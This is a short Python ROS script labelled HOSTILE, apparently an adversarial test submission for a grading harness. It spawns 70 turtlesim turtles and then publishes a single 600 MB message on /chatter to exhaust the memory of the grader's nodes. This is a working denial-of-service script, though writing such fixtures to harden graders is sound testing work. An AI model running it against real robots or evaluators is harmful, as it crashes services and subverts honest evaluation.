#!/usr/bin/env python3
"""HOSTILE: gives the grader's world and watcher more than they should
hold: 70 turtles, then one message of 600 MB on /chatter (rospy reads a
message of any length before it looks at it)."""
import rospy
from std_msgs.msg import String
from turtlesim.srv import Spawn

rospy.init_node('hoard')
chatter = rospy.Publisher('chatter', String, queue_size=1)
rospy.sleep(3.0)
spawn = rospy.ServiceProxy('spawn', Spawn)
for n in range(70):
    try:
        spawn(1.0 + n % 9, 1.0 + n // 9, 0.0, '')
    except rospy.ServiceException as e:
        rospy.loginfo('spawn %d refused: %s', n, e)
chatter.publish(String('P' * (600 * 1024 * 1024)))
rospy.spin()
